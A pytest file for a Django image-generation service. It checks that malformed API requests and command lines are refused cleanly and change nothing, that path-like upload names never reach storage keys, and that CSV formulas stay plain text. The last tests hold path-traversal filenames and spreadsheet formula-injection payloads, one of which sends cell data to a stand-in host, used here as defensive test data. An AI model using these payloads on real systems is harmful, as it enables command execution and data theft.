"""The bad-input corpus (tests/corpus/bad_inputs.py), case by case: every bad request is a
4xx (never a 5xx) in the error envelope naming the field or the problem, every bad command
line exits with its status and says why, and afterwards the database, the queue and the
stored files are exactly as they were.

Plus the inputs that are not errors but must not be trusted: a path-like upload name never
reaches the storage key, and a spreadsheet formula in a CSV cell is kept as plain text.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import get_commands, load_command_class
from django.db import connections
from rest_framework.test import APIClient

from assets.models import Asset
from assets.uploads import create_upload
from billing.services import set_monthly_limits
from catalog.spec import catalog, env_key
from generation.models import Batch, Job
from generation.templates import create_template
from tenants.models import ApiKey, IdempotencyRecord, Tenant
from tenants.services import NewTenant, issue_api_key
from tests.conftest import api_client, queued_messages
from tests.corpus.bad_inputs import CASES, FILES, MISSING, Case, local
from tests.helpers import png_bytes

API_CASES = [case for case in CASES if not case.is_cli]
CLI_CASES = [case for case in CASES if case.is_cli]
APPS = ("tenants", "generation", "assets", "billing", "moderation")


def test_the_corpus_is_big_enough() -> None:
    """Issue 9 asks for at least 50 cases across the API and the CLI."""
    assert len(CASES) >= 60 and len(CLI_CASES) >= 20


# --- the world before and after ------------------------------------------------------------------

def database_state(*, idempotency: bool) -> dict[str, list[dict[str, Any]]]:
    """Every row of Atelier's tables (and the users), but the API key's last-used time;
    idempotency records only when `idempotency` (a request with a key may store its answer)."""
    state = {}
    for model in apps.get_models():
        label = model._meta.label
        if model._meta.app_label not in APPS and label != "auth.User":
            continue
        if model is IdempotencyRecord and not idempotency:
            continue
        rows = list(model._base_manager.order_by("pk").values())
        if model is ApiKey:
            rows = [{k: v for k, v in row.items() if k != "last_used_at"} for row in rows]
        state[label] = rows
    return state


def stored_files(root: Path) -> list[tuple[str, int]]:
    return sorted((str(path.relative_to(root)), path.stat().st_size)
                  for path in root.rglob("*") if path.is_file())


def world(root: Path, *, idempotency: bool = True) -> dict[str, Any]:
    return {"database": database_state(idempotency=idempotency), "files": stored_files(root),
            "queued": queued_messages()}


@pytest.fixture
def media(settings, tmp_path: Path) -> Path:
    """A media root of the test's own: "no file stored" means exactly that."""
    root = tmp_path / "media"
    root.mkdir()
    settings.STORAGES = {**settings.STORAGES, "default": {
        "BACKEND": "django.core.files.storage.FileSystemStorage",
        "OPTIONS": {"location": str(root), "allow_overwrite": True}}}
    return root


@pytest.fixture
def retired_models_callable() -> Iterator[None]:
    """The end-of-life models kept callable (ATELIER_MODEL_LIFECYCLE__KEY=active), as an
    operator whose account still has access would, so their own limits are what refuses."""
    names = [f"ATELIER_MODEL_LIFECYCLE__{env_key(spec.key)}" for spec in catalog()
             if spec.state() == "eol"]
    saved = {name: os.environ.get(name) for name in names}
    os.environ.update(dict.fromkeys(names, "active"))
    catalog.cache_clear()
    yield
    for name, value in saved.items():
        if value is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = value
    catalog.cache_clear()


# --- filling in a case ---------------------------------------------------------------------------

def _image(size: tuple[int, int], mode: str) -> bytes:
    """A red photo with a dark square, or a black mask with a white one (white = change)."""
    mask = mode == "L"
    return png_bytes(size, 0 if mask else (200, 40, 40), mode=mode,
                     box=(size[0] // 4, size[1] // 4, size[0] // 2, size[1] // 2),
                     box_color=255 if mask else (20, 20, 20))


UPLOADS = {"photo": ((640, 480), "RGB"), "person": ((512, 768), "RGB"),
           "garment": ((512, 512), "RGB"), "mask": ((640, 480), "L"),
           "square_mask": ((512, 512), "L")}


def _tokens(value: Any) -> set[str]:
    if isinstance(value, str):
        return {part[1:] for part in value.split("/") if part.startswith("@")}
    if isinstance(value, dict):
        return set().union(*(_tokens(item) for item in value.values()))
    if isinstance(value, list | tuple):
        return set().union(*(_tokens(item) for item in value))
    return set()


def _fill(value: Any, ids: dict[str, str]) -> Any:
    if isinstance(value, str):
        return "/".join(ids.get(part[1:], part) if part.startswith("@") else part
                        for part in value.split("/"))
    if isinstance(value, dict):
        return {key: _fill(item, ids) for key, item in value.items()}
    if isinstance(value, list):
        return [_fill(item, ids) for item in value]
    return value


def prepare(case: Case, acme: NewTenant) -> tuple[APIClient, dict[str, str]]:
    """What the case needs in place (uploads, templates, keys, account state) and its client;
    all of it made before the "before" snapshot."""
    tenant = acme.tenant
    tokens = _tokens(case.path) | _tokens(case.json if case.json is not MISSING else None)
    ids = {name: str(create_upload(tenant, _image(*UPLOADS[name]), filename=f"{name}.png").pk)
           for name in sorted(tokens & set(UPLOADS))}
    if "templates" in case.path:
        ids["template"] = str(create_template(
            tenant, name="studio", prompt="a {subject} on {surface}", model_key="local",
            slot_defaults={"surface": "white marble"}).pk)
    if "second_template" in case.setup:
        create_template(tenant, name="other", prompt="another {subject}")
    if "past_due" in case.setup:
        Tenant.objects.filter(pk=tenant.pk).update(status=Tenant.Status.PAST_DUE)
    if "quota" in case.setup:
        set_monthly_limits(tenant, images=1, budget_usd=None)
    client = {"owner": lambda: api_client(acme.key.secret),
              "anonymous": lambda: api_client(),
              "bad_key": lambda: api_client("atl_000000000000_" + "x" * 43),
              "basic": lambda: _basic_client(),
              "read_key": lambda: api_client(issue_api_key(tenant, name="reader",
                                                           scopes=["read"]).secret),
              }[case.auth]()
    if "prior_request" in case.setup:
        prior = client.post("/api/v1/jobs", local(dry_run=True), format="json",
                            HTTP_IDEMPOTENCY_KEY=case.headers["Idempotency-Key"])
        assert prior.status_code == 200, prior.content
    return client, ids


def _basic_client() -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION="Basic b3duZXJAYWNtZS50ZXN0OnNlY3JldA==")
    return client


def _body(data: Any) -> bytes:
    return data() if callable(data) else data


def _part(part: Any) -> Any:
    if isinstance(part, list):
        return [_part(item) for item in part]
    if isinstance(part, tuple):
        filename, data, content_type = part
        return SimpleUploadedFile(filename, _body(data), content_type=content_type)
    return part


def send(client: APIClient, case: Case, ids: dict[str, str]) -> Any:
    path = _fill(case.path, ids)
    extra = {f"HTTP_{name.upper().replace('-', '_')}": value
             for name, value in case.headers.items()}
    if case.parts is not None:
        parts = {name: _part(part) for name, part in case.parts.items()}
        return client.post(path, parts, format="multipart", **extra)
    if case.raw is not None:
        return client.generic(case.method, path, _body(case.raw),
                              content_type=case.content_type, **extra)
    if case.json is not MISSING:
        return client.generic(case.method, path, json.dumps(_fill(case.json, ids)).encode(),
                              content_type="application/json", **extra)
    return client.generic(case.method, path, **extra)


def _said(text: str, words: tuple[str, ...]) -> list[str]:
    """The words missing from `text` (case-insensitive)."""
    return [word for word in words if word.lower() not in text.lower()]


# --- the API -------------------------------------------------------------------------------------

@pytest.mark.parametrize("case", API_CASES, ids=[case.name for case in API_CASES])
def test_a_bad_request_is_refused_and_changes_nothing(case: Case, request, acme, media, settings,
                                                      empty_queue,
                                                      django_capture_on_commit_callbacks):
    for name, value in case.settings.items():
        setattr(settings, name, value)
    if "retired" in case.setup:
        request.getfixturevalue("retired_models_callable")
    client, ids = prepare(case, acme)
    keyed = "Idempotency-Key" in case.headers
    before = world(media, idempotency=not keyed)

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = send(client, case, ids)

    assert response.status_code == case.status, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    assert isinstance(body.get("code"), str) and body["code"], body
    assert isinstance(body.get("message"), str) and body["message"], body
    if case.code:
        assert body["code"] == case.code, body
    text = body["message"]
    if body["code"] == "invalid_batch":
        assert body["errors"], body
        text += " " + " ".join(f"{e['message']} ({e['code']})" for e in body["errors"])
        if case.field:
            assert body["errors"][0]["column"] == case.field, body
    elif case.field:
        assert body.get("field") == case.field, body
        assert body["message"].startswith(f"{case.field}:"), body
    assert not _said(text, case.words), (case.words, body)

    assert callbacks == []
    assert world(media, idempotency=not keyed) == before


# --- the command line ----------------------------------------------------------------------------

def run_manage(args: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
               ) -> tuple[int, str]:
    """`manage.py ARGS` as a shell runs it (argument errors included), in this process and
    this test's transaction: (exit status, stderr)."""
    monkeypatch.setattr(connections, "close_all", lambda: None)  # the test's own connection
    command = load_command_class(get_commands()[args[0]], args[0])
    try:
        command.run_from_argv(["manage.py", *args, "--skip-checks"])
        status = 0
    except SystemExit as exc:
        status = exc.code if isinstance(exc.code, int) else 1
    return status, capsys.readouterr().err


@pytest.mark.parametrize("case", CLI_CASES, ids=[case.name for case in CLI_CASES])
def test_a_bad_command_line_exits_with_its_status_and_changes_nothing(
        case: Case, request, acme, media, tmp_path, monkeypatch, capsys, empty_queue,
        django_capture_on_commit_callbacks):
    if "retired" in case.setup:
        request.getfixturevalue("retired_models_callable")
    files = tmp_path / "files"
    files.mkdir()
    args = []
    for arg in case.cli or ():
        if arg.startswith("@file:"):
            path = files / arg.removeprefix("@file:")
            path.write_bytes(_body(FILES[path.name]))
            arg = str(path)
        elif arg == "@dir":
            arg = str(files)
        elif arg == "@missing":
            arg = str(files / "missing.png")
        args.append(arg)
    before = world(media)

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        status, stderr = run_manage(args, monkeypatch, capsys)

    assert status == case.status, stderr
    if case.field:
        assert f"{case.field}:" in stderr, stderr
    assert not _said(stderr, case.words), (case.words, stderr)
    assert "Traceback" not in stderr
    assert callbacks == []
    assert world(media) == before


# --- names and formulas: accepted, and harmless --------------------------------------------------

@pytest.mark.parametrize("send_as", ["multipart", "base64"])
@pytest.mark.parametrize("name", ["../../etc/passwd.png", "..\\..\\windows\\win.ini.png",
                                  "/abs/path/x.png", "a/../../b.png"])
def test_a_path_like_upload_name_never_reaches_the_storage_key(owner, acme, media, name,
                                                                send_as):
    data = png_bytes((33, 21))
    if send_as == "multipart":
        response = owner.post("/api/v1/uploads", {
            "file": SimpleUploadedFile(name, data, content_type="image/png")},
            format="multipart")
    else:
        import base64
        response = owner.post("/api/v1/uploads", {"data": base64.b64encode(data).decode(),
                                                  "filename": name}, format="json")
    assert response.status_code == 201, response.content
    asset = Asset.objects.for_tenant(acme.tenant).get(pk=response.json()["id"])
    assert asset.storage_key == f"uploads/acme/{asset.sha256}.png"
    assert stored_files(media) == [(asset.storage_key, len(data))]
    kept = asset.parameters["filename"]
    assert "/" not in kept and "\\" not in kept and ".." not in kept.replace("...", "")
    assert default_storage.exists(asset.storage_key)


FORMULAS = ["=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)",
            '=HYPERLINK("http://evil.example/?"&A1,"click")']


def test_spreadsheet_formulas_in_csv_cells_are_kept_as_plain_text(owner, acme, media,
                                                                  empty_queue):
    rows = "".join(f'S{i},"a vase, {formula.replace(chr(34), chr(34) * 2)}"\n'
                   for i, formula in enumerate(FORMULAS))
    skus = "".join(f'"{formula.replace(chr(34), chr(34) * 2)}",a jug\n'
                   for formula in FORMULAS)
    response = owner.generic("POST", "/api/v1/batches?model=local",
                             ("sku,prompt\n" + rows + skus).encode(), content_type="text/csv")
    assert response.status_code == 202, response.content
    batch = Batch.objects.for_tenant(acme.tenant).get(pk=response.json()["id"])
    jobs = {job.sku: job.prompt for job in Job.objects.for_tenant(acme.tenant).filter(
        batch=batch)}
    for i, formula in enumerate(FORMULAS):
        assert jobs[f"S{i}"] == f"a vase, {formula}"  # the cell's text, nothing evaluated
        assert jobs[formula] == "a jug"
    listed = owner.get(f"/api/v1/jobs?batch={batch.pk}&limit=200").json()["results"]
    assert {job["sku"] for job in listed} >= set(FORMULAS)


def test_an_estimate_with_an_image_keeps_nothing(acme, media, tmp_path, monkeypatch, capsys,
                                                 empty_queue):
    """`generate --estimate` creates nothing: not even the upload its --image needed."""
    photo = tmp_path / "photo.png"
    photo.write_bytes(_image((640, 480), "RGB"))
    before = world(media)
    status, stderr = run_manage(["generate", "--tenant", "acme", "--model", "nova-2-omni",
                                 "--operation", "image_to_image", "--prompt", "a blue vase",
                                 "--image", str(photo), "--estimate"], monkeypatch, capsys)
    assert status == 0, stderr
    assert world(media) == before
